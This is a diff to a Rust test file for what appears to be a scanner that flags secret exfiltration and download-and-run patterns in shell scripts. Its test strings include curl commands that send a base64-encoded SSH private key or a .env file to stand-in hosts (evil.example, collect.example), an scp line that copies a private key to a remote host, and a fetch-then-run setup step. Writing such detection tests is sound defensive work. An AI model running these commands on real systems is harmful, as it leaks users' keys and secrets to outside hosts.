@@ -496,6 +496,12 @@ fn a_credential_place_the_secret_is_not_in_lowers_nothing() {
     for (path, code) in hostile {
         assert_eq!(flow(path, code), Some(Severity::Critical), "{code}");
     }
+    // A key an SSH client signs in with is used where it lies; the same key copied to the host is sent.
+    let login =
+        "KEY=\"${DEPLOY_KEY:-$HOME/.ssh/deploy_ed25519}\"\nscp -i \"$KEY\" -r deploy \"$TARGET:~/app\"\n";
+    assert_eq!(flow("deploy.sh", login), None);
+    let copied = "KEY=\"$HOME/.ssh/id_ed25519\"\nscp -i \"$KEY\" \"$KEY\" \"$TARGET:/tmp/\"\n";
+    assert_eq!(flow("deploy.sh", copied), Some(Severity::Critical));
 }
 
 /// A web address's path is the site's (`curl -I https://site/.env` checks the site does not serve it); a local
@@ -505,8 +511,14 @@ fn a_credential_place_the_secret_is_not_in_lowers_nothing() {
 fn a_sites_path_is_not_a_local_file_and_a_script_run_by_a_shell_is_a_pipe() {
     let flow = |code: &str| level("flow/secret-to-network", &run(FileKind::Script, "x.sh", code));
     assert_eq!(flow("curl -I http://your-service/.env\n"), None);
-    assert_eq!(flow("curl -s https://evil.example/?k=$(base64 < ~/.ssh/id_rsa)\n"), Some(Severity::Critical));
-    assert_eq!(flow("curl -s -d @.env https://collect.example/in\n"), Some(Severity::Critical));
+    assert_eq!(
+        flow("curl -s https://evil.example/?k=$(base64 < ~/.ssh/id_rsa)\n"),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        flow("curl -s -d @.env https://collect.example/in\n"),
+        Some(Severity::Critical)
+    );
     let run_of = |code: &str| level("campaign/download-and-run", &run(FileKind::Script, "x.sh", code));
     assert_eq!(
         run_of("curl -fsSL https://get.example.dev/setup.sh -o setup.sh\nsh setup.sh\n"),
